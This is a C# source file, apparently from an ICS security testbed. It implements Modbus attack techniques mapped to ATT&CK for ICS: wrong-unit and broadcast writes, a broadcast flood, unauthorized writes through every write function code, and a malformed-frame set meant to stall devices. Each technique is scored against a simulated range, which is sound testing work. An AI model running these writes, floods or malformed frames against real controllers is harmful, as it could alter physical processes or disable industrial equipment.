using Testbed.Core;
using Testbed.Modbus;
using Testbed.Scenarios;
using ModbusTable = Testbed.Scenarios.ModbusTable;
using static Testbed.Core.FoundationalRequirement;

namespace Testbed.Attacks;

/// <summary>
/// T0855 Unauthorized Command Message, addressed to nobody: the write goes to unit <c>unit</c> (0, the broadcast, unless given; <c>other</c>: one digit beside the
/// right one), which devices behind one address may take for themselves. Breach: the device holds the value and the vantage may not write it.
/// </summary>
public sealed class WrongUnitWrite() : Technique("wrong-unit-write", "T0855", "unit point value", [Uc], [Uc])
{
    /// <inheritdoc/>
    internal override async Task<StepOutcome> RunAsync(StepContext context)
    {
        if (context.Service(ServiceProtocol.Modbus) is not { } service || PointChoice.Point(context, service) is not { } target)
        {
            return StepOutcome.Absent($"{context.Target.Id} has no such point.");
        }

        var own = (byte)(service.Unit ?? 1);
        var unit = context.Parameters.GetValueOrDefault("unit") == "other" ? (byte)(own == 247 ? own - 1 : own + 1) : (byte)context.Count("unit", 0);
        var raw = PointChoice.Value(context, target);
        Act(context, $"{context.Vantage.From} writes {target.Point.Name} to unit {Number.Text(unit)} at {context.Target.Id}");
        using var link = await context.ModbusAsync();
        if (link is not null)
        {
            await link.SendAsync(ModbusLink.WritePdu(target, raw), unit);
            await context.Range.WaitAsync(AttackTimes.Settle(context.Target));
        }

        return await Written.JudgeAsync(context, service, target, raw, link is not null);
    }
}

/// <summary>
/// T0814 Denial of Service, by a broadcast: one write to unit 0, over and over (<c>requests</c>), as a looping tool does. Breach: a scan is lost, or the device
/// holds what it must not.
/// </summary>
public sealed class BroadcastStorm() : Technique("broadcast-storm", "T0814", "requests", [Ra, Uc], [Ra, Uc])
{
    /// <inheritdoc/>
    internal override async Task<StepOutcome> RunAsync(StepContext context)
    {
        if (context.Service(ServiceProtocol.Modbus) is not { } service || WriteTarget.Of(context.Target, service).FirstOrDefault() is not { } target)
        {
            return StepOutcome.Absent($"{context.Target.Id} has nothing to write to.");
        }

        var raw = target.DifferentInRange(context.Range.Truth.Point(context.Target.Id, target.Point.Name));
        Act(context, $"{context.Vantage.From} sends a broadcast to {context.Target.Id} over and over");
        using var link = await context.ModbusAsync();
        if (link is not null)
        {
            await link.Client.SendRawAsync(Flood.Storm(ModbusLink.WritePdu(target, raw), 0, context.Count("requests", 2000)));
            await context.Range.WaitAsync(Flood.Accounted);
        }

        return Flood.Stalled(context.Range, context.Target)
            ? new(BreachKind.Availability, $"{context.Target.Id} lost a scan to broadcasts.")
            : await Written.JudgeAsync(context, service, target, raw, link is not null);
    }
}

/// <summary>
/// T0855 Unauthorized Command Message, by every way to write that the protocol knows: FC 5, 6, 15, 16, 22 and 23, one after the other. Breach: one is applied.
/// </summary>
public sealed class WriteByEveryFunction() : Technique("write-by-every-function", "T0855", "point", [Uc, Rdf], [Iac, Uc])
{
    /// <inheritdoc/>
    internal override async Task<StepOutcome> RunAsync(StepContext context)
    {
        var service = context.Service(ServiceProtocol.Modbus);
        var targets = service is null ? [] : WriteTarget.Of(context.Target, service).Where(t => t.Point.Words == 1 && t.Point.Bit is null).ToList();
        var register = targets.FirstOrDefault(t => t.Point.Table == ModbusTable.HoldingRegister);
        var coil = targets.FirstOrDefault(t => t.Point.Table == ModbusTable.Coil);
        if (register is null && coil is null)
        {
            return StepOutcome.Absent($"{context.Target.Id} has nothing to write to.");
        }

        Act(context, $"{context.Vantage.From} writes to {context.Target.Id} by every function code");
        using var link = await context.ModbusAsync();
        foreach (var (function, target) in link is null ? [] : Ways(register, coil))
        {
            var raw = target.DifferentInRange(context.Range.Truth.Point(context.Target.Id, target.Point.Name));
            await link!.SendAsync(Pdu(function, target, raw));
            await context.Range.WaitAsync(AttackTimes.Settle(context.Target));
            if (context.Range.Holds(target, raw) && !context.IsAllowed(service!, new(function, target.Point.Address, raw)))
            {
                return new(BreachKind.Write, $"{target.Text(raw)} at {context.Target.Id} was applied by FC {Number.Text(function)}.");
            }
        }

        return StepOutcome.Nothing($"{context.Target.Id} took a forbidden write by no function code.");
    }

    private static IEnumerable<(int Function, WriteTarget Target)> Ways(WriteTarget? register, WriteTarget? coil) =>
        new[] { (5, coil), (6, register), (15, coil), (16, register), (22, register), (23, register) }.Where(w => w.Item2 is not null).Select(w => (w.Item1, w.Item2!));

    private static byte[] Pdu(int function, WriteTarget target, double raw)
    {
        var (address, word) = (target.Point.Address, target.Point.Table == ModbusTable.Coil ? (ushort)0 : target.Words(raw)[0]);
        byte ah = (byte)(address >> 8), al = (byte)address, vh = (byte)(word >> 8), vl = (byte)word;
        return function switch
        {
            22 => [ModbusFunctionCode.MaskWriteRegister, ah, al, 0, 0, vh, vl],
            23 => [ModbusFunctionCode.ReadWriteMultipleRegisters, ah, al, 0, 1, ah, al, 0, 1, 2, vh, vl],
            _ => ModbusLink.WritePdu(target, raw, multiple: function is 15 or 16),
        };
    }
}

/// <summary>
/// T0866 Exploitation of Remote Services: frames that no client sends: wrong lengths, protocol ids and counts, unknown functions, half requests. Breach: the device
/// loses a scan, or answers nobody afterwards.
/// </summary>
public sealed class MalformedFrames() : Technique("malformed-frames", "T0866", "", [Si, Ra], [Si, Ra])
{
    private static readonly byte[][] Frames =
    [
        [0, 1, 0, 0, 0, 0, 1], [0, 1, 0, 0, 0xFF, 0xFF, 1, 3, 0, 0, 0, 1], [0, 1, 0, 7, 0, 6, 1, 3, 0, 0, 0, 1], [0, 1, 0, 0, 0, 6, 1, 3, 0, 0, 0xFF, 0xFF],
        [0, 1, 0, 0, 0, 3, 1, 16, 0], [0, 1, 0, 0, 0, 2, 1, 0x80], [0, 1, 0, 0, 0, 9, 1, 16, 0, 0, 0, 100, 200, 1, 2], [0, 1, 0, 0, 0, 6, 1, 3, 0xFF],
    ];

    /// <inheritdoc/>
    internal override async Task<StepOutcome> RunAsync(StepContext context)
    {
        if (context.Service(ServiceProtocol.Modbus) is not { } service)
        {
            return StepOutcome.Absent($"{context.Target.Id} speaks no Modbus.");
        }

        var polls = context.Range.Scenario.Traffic.Polls.Where(p => p.To == context.Target.Id).ToList();
        var failed = polls.Sum(p => context.Range.Truth.Polls(p.Id).Failed);
        Act(context, $"{context.Vantage.From} sends broken frames to {context.Target.Id}");
        foreach (var frame in Frames)
        {
            using var link = await context.ModbusAsync();
            if (link is null)
            {
                return StepOutcome.Nothing($"{context.Target.Id} could not be reached.");
            }

            byte[] sent = [.. frame];
            sent[6] = link.Unit;
            await link.Client.SendRawAsync(sent);
            await context.Range.WaitAsync(AttackTimes.Settle(context.Target));
        }

        var after = polls.Count > 0 ? polls.Max(p => p.Period) + TimeSpan.FromSeconds(5) : TimeSpan.FromSeconds(5);
        await context.Range.WaitAsync(after);
        return Flood.Stalled(context.Range, context.Target) || polls.Sum(p => context.Range.Truth.Polls(p.Id).Failed) > failed
            ? new(BreachKind.Availability, $"{context.Target.Id} was disturbed by broken frames.")
            : StepOutcome.Nothing($"{context.Target.Id} bore broken frames on port {Number.Text(service.Port)}.");
    }
}
